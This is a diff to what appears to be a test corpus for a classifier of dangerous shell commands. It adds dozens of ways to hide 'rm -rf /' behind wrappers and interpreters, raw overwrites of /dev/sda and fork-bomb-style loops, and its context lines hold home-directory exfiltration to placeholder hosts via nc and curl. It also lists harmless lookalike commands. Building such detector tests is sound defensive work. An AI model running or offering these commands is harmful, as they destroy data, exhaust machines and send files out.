@@ -108,6 +108,47 @@ kill -9 -- -1
 sudo kill -9 1
 """,
     ("critical", "destructive"): r"""
+env - rm -rf /
+env -S"rm -rf" /
+/usr/bin/time -f %e rm -rf /
+time -o log rm -rf /
+gdb --args rm -rf /
+bwrap --dev-bind / / rm -rf /
+firejail --quiet rm -rf /
+chronic rm -rf /
+dbus-run-session -- rm -rf /
+rlwrap rm -rf /
+mytool --then rm -rf /
+nix-shell --run 'rm -rf /'
+npm exec -c 'rm -rf /'
+fzf --preview 'rm -rf /'
+npx -c 'rm -rf /'
+make --eval='all:;rm -rf /' all
+printf 'all: ; rm -rf /\n' | make -f -
+echo 'rm -rf /' | sed e
+sed '1!e rm -rf /' x
+sed 's/.*/rm -rf \//e' x
+sed -E 's|x|rm -rf /|ge' x
+cmake -E rm -rf /
+qemu-img convert a.img /dev/sda
+zip -T -TT 'rm -rf /' a.zip b
+tar --use-compress-program 'rm -rf /' -cf a b
+tar -F 'rm -rf /' -cf a b
+sort --compress-program='rm -rf /' x
+git difftool -x 'rm -rf /'
+git config core.pager 'rm -rf /'
+vim -c 'call system("rm -rf /")'
+less '+!rm -rf /' x
+dc -e '!rm -rf /'
+ansible all -a 'rm -rf /'
+c='$(rm -rf /)'; echo "${c@P}"
+printf -v c %s 'rm -rf /'; eval "$c"
+exec 3<<<'rm -rf /'; bash <&3
+echo 'rm -rf $1' | sh -s /
+gcc -o /dev/sda x.c
+openssl enc -in x -out /dev/sda
+xxd -r x /dev/sda
+script /dev/sda
 echo ls > rm; rm -rf /
 rm() { :; }; sudo rm -rf /
 while read -r x; do :; done < <(rm -rf /)
@@ -576,6 +617,8 @@ tar cf - ~ | nc x 99
 tar -cz /home | curl -T - https://x
 """,
     ("high", "denial_of_service"): r"""
+while :; do (sleep 100 &); done
+while true; do sleep 100 & done
 dd if=/dev/zero of=bigfile
 while true; do bash & done
 for ((;;)); do ./x & done
@@ -993,6 +1036,33 @@ DANGEROUS_LINES = (  # all critical
     "rm -rf /\n'",
 )
 HARMLESS = r"""
+apt-get -s purge linux-image-amd64
+apt -s upgrade
+apt-get --just-print dist-upgrade
+man rm
+which rm dd
+tldr rm -rf /
+notify-send 'rm -rf /'
+gh issue create --title 'rm -rf / in the script'
+slack-notify --text "it ran rm -rf build"
+mytool rm.txt
+mytool find files
+git config alias.st 'status -sb'
+git log --grep 'rm -rf /'
+sed 's/e/E/' x
+sed -e 's/a/b/;s/c/d/g' x
+sed -n '/one/,/three/p' x
+sed 's/the rm -rf/x/' x
+sort --compress-program=gzip x
+tar --use-compress-program zstd -cf a b
+time -f %e make
+env -S 'A=b make'
+gcc -O2 -o prog x.c
+openssl genrsa -out my.pem 2048
+fzf --preview 'cat {}'
+npm exec -c 'eslint .'
+make --eval='all:;echo done' all
+while true; do work & wait; done
 curl o
 curl google.com -o page.html
 git push --porcelain
@@ -1864,6 +1934,12 @@ tldr rm
 rm --version
 """
 MILD = r"""
+sudo apt-get install bash zsh find
+sudo dnf install -y rm-improved bash
+npm rm left-pad
+pass rm web/site
+awk -i inplace '{print $1}' f
+ex -sc '%s/a/b/|x' f
 chmod -R u+rwX,go-w dir
 pkill -HUP nginx
 pkill -u bob firefox
